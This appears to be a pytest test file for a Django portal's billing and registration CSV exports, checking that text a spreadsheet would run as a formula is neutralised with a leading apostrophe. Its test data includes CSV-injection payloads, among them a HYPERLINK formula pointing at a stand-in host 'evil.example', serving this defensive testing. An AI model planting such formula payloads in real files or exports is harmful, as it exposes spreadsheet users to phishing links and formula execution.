"""CSV injection: every CSV the portal writes goes through portal.csv_export, which
neutralises text a spreadsheet would run as a formula and keeps the code's numbers numbers."""

import csv
import io
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import reverse

from billing import exports
from billing.services import runs
from portal import csv_export
from tests.factories import (
    AllocationFactory,
    CoordinatorFactory,
    NetworkFactory,
    PsychologistFactory,
    RegistrationFactory,
)

HYPERLINK = '=HYPERLINK("http://evil.example/?x","klik")'


@pytest.mark.parametrize(
    "text",
    [HYPERLINK, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "  =1+1", " \t@x", "\tabc"],
)
def test_formula_leading_text_gets_an_apostrophe(text):
    assert csv_export.cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Gent", "a=b", "Sint-Niklaas", "2025-03-01", "", "'=x"])
def test_other_text_is_written_as_typed(text):
    assert csv_export.cell(text) == text


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (Decimal("-86.69"), "-86,69"),
        (Decimal("86.69"), "86,69"),
        (Decimal("0.50"), "0,50"),
        (-1, "-1"),
        (0, "0"),
        (None, ""),
    ],
)
def test_numbers_the_code_writes_stay_numbers(value, written):
    assert csv_export.cell(value) == written


def test_file_is_semicolon_separated_utf8_with_bom_and_crlf():
    text = csv_export.csv_text(["a", "b"], [["=x", Decimal("-1.00")]])

    assert text == "\ufeffa;b\r\n'=x;-1,00\r\n"


@pytest.mark.django_db
def test_billing_run_csv_neutralises_a_formula_in_a_first_name():
    network = NetworkFactory(code="PAKT", name="Het PAKT")
    psychologist = PsychologistFactory(networks=[network], user__first_name=HYPERLINK)
    allocation = AllocationFactory(application__psychologist=psychologist)
    RegistrationFactory(allocation=allocation, date=date(2025, 3, 5), duration_minutes=60)
    run = runs.run_billing(network, date(2025, 3, 31))

    rows = list(csv.reader(io.StringIO(exports.run_csv(run).removeprefix("\ufeff")), delimiter=";"))

    assert rows[1][exports.HEADER.index("psycholoog")].startswith("'=HYPERLINK(")
    assert rows[1][9:12] == ["1", "86,69", "86,69"]


@pytest.mark.django_db
def test_registrations_csv_neutralises_a_formula_after_leading_spaces(client):
    registration = RegistrationFactory(place="  =1+1", attendee_roles="\t@x")
    client.force_login(registration.psychologist.user)

    body = client.get(reverse("registrations:export")).content.decode("utf-8-sig")

    assert ";'\t@x;" in body
    assert ";'  =1+1;" in body


@pytest.mark.django_db
def test_uptake_csv_neutralises_a_formula_in_a_network_name(client):
    network = NetworkFactory(code="EVIL", name="@SUM(1+1)")
    client.force_login(CoordinatorFactory(networks=[network]))

    body = client.get(reverse("coordination:uptake_csv")).content.decode("utf-8-sig")

    assert "\r\n'@SUM(1+1);" in body


def test_no_module_but_the_shared_writer_writes_csv():
    root = Path(__file__).resolve().parents[2]
    writers = {
        str(path.relative_to(root))
        for app in ("portal", "applications", "registrations", "billing")
        for path in (root / app).rglob("*.py")
        if "csv.writer(" in path.read_text(encoding="utf-8")
    }
    assert writers == {"portal/csv_export.py"}
